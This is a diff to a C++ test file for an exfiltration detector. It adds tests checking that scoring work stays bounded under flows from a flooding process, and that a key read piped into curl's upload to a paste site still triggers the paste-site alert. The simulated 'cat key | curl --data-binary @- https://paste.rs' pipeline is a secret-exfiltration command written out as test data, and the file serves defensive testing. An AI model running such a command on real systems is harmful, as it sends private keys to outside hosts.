@@ -3,6 +3,8 @@
 // binaries, event orders, pid reuse, windows, caps).
 #include <doctest/doctest.h>
 
+#include <fmt/format.h>
+
 #include "timeline.hpp"
 
 using namespace exfilwatch;
@@ -679,4 +681,85 @@ TEST_CASE("memory stays bounded and evictions are counted")
     CHECK(s.evicted_pairs > 0);
     CHECK(s.evicted_staged_files > 0);
     CHECK(s.events > 1000);
+}
+
+namespace {
+
+// `flows` UDP-like flows from `uploaders` processes of the session, each to its own address with
+// a few bytes out; then `reads` sensitive reads by other processes of the same session. Returns
+// the evaluations the reads cost.
+std::uint64_t read_work(std::size_t uploaders, std::size_t flows, std::size_t reads)
+{
+    Timeline tl;
+    std::vector<ProcessRef> ups;
+    for (std::size_t i = 0; i < uploaders; ++i) ups.push_back(tl.spawn(tl.shell, {"python3", "flood.py"}));
+    for (std::size_t i = 0; i < flows; ++i) {
+        const auto& p = ups[i % ups.size()];
+        FlowSummaryEvent s;
+        s.time = tl.t;
+        s.process = p;
+        s.flow.socket_cookie = 100'000 + i;
+        s.transport = Transport::udp;
+        s.destination = {fmt::format("10.{}.{}.{}", (i >> 16) & 255, (i >> 8) & 255, i & 255), 9999};
+        s.bytes_out = 64;
+        s.final = false;
+        tl.feed(s);
+        tl.step();
+    }
+    auto before = tl.engine.stats();
+    for (std::size_t i = 0; i < reads; ++i) {
+        auto cat = tl.spawn(tl.shell, {"cat", key});
+        tl.read(cat, key, 400);
+        tl.exit(cat);
+    }
+    auto after = tl.engine.stats();
+    CHECK(after.pairs >= std::min<std::uint64_t>(flows, tl.engine.rules().settings.max_pairs) / 2);
+    CHECK(tl.alerts.empty());  // nothing uploaded the key
+    return after.evaluations - before.evaluations;
+}
+
+}  // namespace
+
+TEST_CASE("bounded work: a read re-scores a bounded number of pairs however many are live")
+{
+    // One process with many flows, and many processes with a few each: both in the reader's session.
+    auto small_one = read_work(1, 200, 50);
+    auto large_one = read_work(1, 4000, 50);
+    auto small_many = read_work(100, 1000, 50);
+    auto large_many = read_work(400, 4000, 50);
+    MESSAGE("evaluations for 50 reads: ", small_one, " ", large_one, " ", small_many, " ", large_many);
+    CHECK(large_one == small_one);
+    CHECK(large_many == small_many);
+    // Per read: at most max uploaders x pairs each (16 x 8), two records per read (open, summary).
+    CHECK(large_many <= 50 * 2 * 16 * 8);
+}
+
+TEST_CASE("bounded work: a read after the upload still re-scores the uploader among thousands of pairs")
+{
+    Timeline tl;
+    auto noisy = tl.spawn(tl.shell, {"python3", "flood.py"});
+    for (std::size_t i = 0; i < 3000; ++i) {
+        FlowSummaryEvent s;
+        s.time = tl.t;
+        s.process = noisy;
+        s.flow.socket_cookie = 200'000 + i;
+        s.destination = {fmt::format("10.0.{}.{}", (i >> 8) & 255, i & 255), 9999};
+        s.bytes_out = 64;
+        tl.feed(s);
+        tl.step();
+    }
+    // cat key | curl: curl's upload closes before cat's byte count arrives.
+    const std::uint64_t pipe = 77001;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, pipe);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs:8443/"}, {}, 0, pipe);
+    tl.open_read(cat, key);
+    tl.transfer(curl, "paste.rs", 900 + 1200, 400);
+    auto with_volume = [&] {
+        return std::count_if(tl.alerts.begin(), tl.alerts.end(),
+                             [&](const Alert& a) { return tl.has_signal(a, "data-volume"); });
+    };
+    CHECK(with_volume() == 0);  // the key's size is not known yet
+    tl.summary(cat, key, 900);
+    CHECK(with_volume() == 1);  // the read re-scored curl's closed upload
+    expect_alert(tl, "T1567.003", "paste");
 }
